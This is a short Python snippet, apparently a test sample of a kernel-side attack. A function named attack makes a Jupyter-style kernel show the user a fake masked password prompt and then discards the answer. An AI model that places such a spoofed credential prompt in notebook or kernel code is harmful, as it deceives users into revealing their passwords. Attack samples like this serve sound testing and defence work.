"""Asks the person at the keyboard.

kind: kernel
"""

def attack():
    KERNEL._allow_stdin = True
    KERNEL.session.send(APP.stdin_socket, "input_request", {"prompt": "your password: ", "password": True}, parent=KERNEL.get_parent(), ident=IDENT)
    try: input("your password: ")
    except Exception: pass
